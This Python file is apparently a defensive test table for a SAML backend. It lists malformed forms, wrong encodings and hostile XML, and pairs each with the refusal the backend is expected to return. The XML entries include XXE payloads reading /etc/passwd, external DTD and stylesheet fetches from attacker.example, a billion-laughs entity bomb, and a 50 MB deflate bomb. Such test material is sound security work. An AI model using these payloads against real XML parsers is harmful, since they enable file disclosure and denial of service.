"""How a message arrives: forms, encodings and XML that are not what a browser sends; HTTP belongs to the routes."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Iterable
from urllib.parse import quote, urlencode

from attacks.attack import Attempt, attempt, grouped, in_bytes, message, replacing
from saml_backend.refusal import Step
from saml_kit import encode
from saml_kit.sending import CONTENT_TYPE

Row = tuple[str, Step, str, Callable[[], Attempt]]
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<!DOCTYPE r [<!ENTITY l0 "lol">{LAUGHS}]>'.encode()
TOO_LONG = "A" * (128 * 1024 + 4)


def sent(body: bytes, content_type: str = CONTENT_TYPE) -> Callable[[], Attempt]:
    """A body as it is."""
    return lambda: Attempt(body=body, content_type=content_type)


def text(message: str) -> Callable[[], Attempt]:
    """A form with that text where base64 belongs."""
    return sent(urlencode({"SAMLResponse": message}).encode())


def honest_form(more: str = "", content_type: str = CONTENT_TYPE) -> Callable[[], Attempt]:
    """User 1's own form, and something behind it."""

    def make() -> Attempt:
        form = f"SAMLResponse={quote(encode(message().signed()), safe='')}{more}"
        return Attempt(body=form.encode(), content_type=content_type)

    return make


def twice() -> Attempt:
    """User 1's message in two fields of one name."""
    form = honest_form()().body
    return Attempt(body=form + b"&" + form)


def prologue(markup: bytes) -> Callable[[], Attempt]:
    """User 1's message behind some markup."""
    return in_bytes(lambda xml: markup + xml)


def declared(charset: str) -> Callable[[], Attempt]:
    """User 1's message, declared to be in that encoding."""
    return prologue(f'<?xml version="1.0" encoding="{charset}"?>'.encode())


def written_in(charset: str) -> Callable[[], Attempt]:
    """User 1's message in that encoding."""
    return in_bytes(lambda xml: xml.decode().encode(charset))


def in_root(attribute: bytes, times: int) -> Callable[[], Attempt]:
    """That many attributes of the root, numbered; a signature does not cover namespaces that nobody uses."""
    added = b"".join(b' %s%d="urn:x"' % (attribute, number) for number in range(times))
    return replacing(b"<saml2p:Response", b"<saml2p:Response" + added)


def before_status(markup: bytes) -> Callable[[], Attempt]:
    """Markup in the response."""
    return replacing(b"<saml2p:Status>", markup + b"<saml2p:Status>")


def heaviest() -> Attempt:
    """As many elements, namespaces and bytes as the guard lets pass, for xmlsec to canonicalise and digest."""
    spaces = b"".join(b' xmlns:n%d="urn:x"' % number for number in range(240))
    values = b"<saml2:AttributeValue>" + b"x" * 40 + b"</saml2:AttributeValue>"
    xml = message().signed().replace(b"<saml2p:Response", b"<saml2p:Response" + spaces)
    first, rest = xml.split(b"<saml2:AttributeStatement>")
    many = b'<saml2:Attribute Name="x">' + values * 900 + b"</saml2:Attribute>"
    return attempt(first + b"<saml2:AttributeStatement>" + many + rest)


def url_safe() -> Attempt:
    """The alphabet of RFC 4648, section 5."""
    return text(base64.urlsafe_b64encode(b"\xfb\xff" + message().signed()).decode())()


def deflated() -> Attempt:
    """What unpacks to 50 MB, for readers that inflate before they look."""
    return attempt(zlib.compress(b" " * 50_000_000)[2:-4])


def _refused(step: Step, reason: str, rows: Iterable[tuple[str, Callable[[], Attempt]]]) -> tuple[Row, ...]:
    return tuple((name, step, reason, make) for name, make in rows)


FORMS: tuple[Row, ...] = (
    ("no body", Step.LIMITS, "response-absent", sent(b"")),
    ("another field only", Step.LIMITS, "response-absent", sent(b"samlresponse=AAAA")),
    ("two SAMLResponse fields", Step.LIMITS, "field-repeated", twice),
    ("two RelayState fields", Step.LIMITS, "field-repeated", honest_form("&RelayState=a&RelayState=b")),
    ("a hundred fields", Step.LIMITS, "form-malformed", honest_form("&x=1" * 100)),
    ("a field without a value", Step.LIMITS, "form-malformed", honest_form("&x")),
    ("body that is no UTF-8", Step.LIMITS, "form-malformed", sent(b"SAMLResponse=%ff%fe")),
    ("RelayState of 81 bytes", Step.LIMITS, "relay-state-too-long", honest_form(f"&RelayState={'a' * 81}")),
    ("10 MB", Step.LIMITS, "body-too-large", sent(b"SAMLResponse=" + b"A" * 10_000_000)),
    ("a message of more than 128 KB", Step.LIMITS, "response-too-large", text(TOO_LONG)),
    *_refused(
        Step.LIMITS,
        "content-type-wrong",
        [
            ("JSON", sent(b'{"SAMLResponse": "AAAA"}', "application/json")),
            ("multipart", sent(b"--x", "multipart/form-data; boundary=x")),
            ("no content type", honest_form(content_type="")),
            ("a form in UTF-16", honest_form(content_type=f"{CONTENT_TYPE}; charset=utf-16")),
        ],
    ),
)
ENCODINGS: tuple[Row, ...] = (
    *_refused(
        Step.LIMITS,
        "base64-wrong",
        [
            ("garbage", text("$$$$")),
            ("base64 with a line break", text("AAAA\nAAAA")),
            ("base64 with a space", text("AAAA AAAA")),
            ("base64 without its padding", text("AAAAA")),
            ("base64 with padding inside", text("AA==AAAA")),
            ("a percent sign in base64", text("AAAA%")),
            ("url-safe base64", url_safe),
            ("a plus sign that was not encoded", sent(b"SAMLResponse=AA+A")),
        ],
    ),
    ("deflate bomb", Step.GUARD, "not-xml", deflated),
    ("UTF-16", Step.GUARD, "not-xml", written_in("utf-16")),
    ("UTF-16 without byte order mark", Step.GUARD, "not-xml", written_in("utf-16-le")),
    ("UTF-8 with byte order mark", Step.GUARD, "not-xml", written_in("utf-8-sig")),
    ("a NUL", Step.GUARD, "not-xml", replacing(b"user1", b"user1\0")),
    ("bytes that are no UTF-8", Step.GUARD, "xml-malformed", replacing(b"user1", b"us\xffr1")),
    ("cut short", Step.GUARD, "xml-malformed", in_bytes(lambda xml: xml[:-20])),
    ("an element after the end", Step.GUARD, "xml-malformed", in_bytes(lambda xml: xml + b"<x/>")),
    *_refused(
        Step.GUARD,
        "markup-forbidden",
        [(f"declared as {charset}", declared(charset)) for charset in ("UTF-7", "UTF-16", "EBCDIC-CP-US")],
    ),
)
DOCUMENTS: tuple[Row, ...] = (
    *_refused(
        Step.GUARD,
        "markup-forbidden",
        [
            ("DTD", prologue(b"<!DOCTYPE r>")),
            ("external DTD", prologue(b'<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">')),
            ("XXE", prologue(b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
            ("XXE by parameter entity", prologue(b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;]>')),
            ("billion laughs", prologue(BILLION_LAUGHS)),
            ("stylesheet instruction", prologue(b'<?xml-stylesheet href="http://attacker.example/"?>')),
            ("comment before the root", prologue(b"<!---->")),
        ],
    ),
    ("undeclared entity", Step.GUARD, "xml-malformed", replacing(b"user1", b"&x;")),
    ("300 namespaces", Step.GUARD, "too-many-nodes", in_root(b"xmlns:n", 300)),
    ("20,000 namespaces", Step.LIMITS, "body-too-large", in_root(b"xmlns:n", 20_000)),
    ("300 attributes of the root", Step.VERIFY, "schema-invalid", in_root(b"a", 300)),
    ("2,000 attributes of the root", Step.GUARD, "too-many-nodes", in_root(b"a", 2_000)),
    ("the heaviest message that the guard lets pass", Step.VERIFY, "signature-invalid", heaviest),
    ("200 levels", Step.GUARD, "content-unknown", before_status(b"<x>" * 200 + b"</x>" * 200)),
    ("300 levels", Step.GUARD, "xml-malformed", before_status(b"<x>" * 300 + b"</x>" * 300)),
    ("2,000 empty elements", Step.GUARD, "too-many-nodes", before_status(b"<x/>" * 2_000)),
)

ATTACKS = grouped("transport", (*FORMS, *ENCODINGS, *DOCUMENTS))
